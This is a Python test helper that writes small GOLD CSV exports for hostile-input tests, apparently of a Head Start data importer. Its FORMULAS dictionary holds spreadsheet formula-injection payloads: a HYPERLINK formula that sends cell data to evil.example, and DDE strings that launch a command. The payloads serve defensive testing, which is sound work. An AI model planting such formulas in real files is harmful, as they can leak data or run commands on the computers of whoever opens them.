"""Helpers for hostile-input tests: small GOLD exports built from the repository's own test
data (``tests/data/gold_malformed.csv``, whose line 2 is a good row)."""

from __future__ import annotations

import csv
from pathlib import Path

TEMPLATE = Path(__file__).resolve().parents[1] / "data" / "gold_malformed.csv"

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dde": "+cmd|' /C calc'!A0",
    "at_sum": "@SUM(1+1)",
    "minus": "-2+3+cmd|' /C calc'!A0",
}
HYPHEN_NAME = "-Ana"  # a real name may begin with a hyphen: warned, never refused


def write_gold(path: Path, changes: list[dict[str, str]]) -> Path:
    """A GOLD export with the template's header and one row per ``changes`` (edits of its
    first, good row); birth and entry dates fit a child in Head Start now."""
    with TEMPLATE.open(encoding="utf-8-sig", newline="") as file:
        reader = csv.reader(file)
        header, template = next(reader), next(reader)
    base = dict(zip(header, template, strict=True)) | {
        "BirthDate": "3/14/2022",
        "First Day In Program": "9/1/2025",
    }
    rows = [[(base | change)[name] for name in header] for change in changes]
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file, lineterminator="\r\n").writerows([header, *rows])
    return path
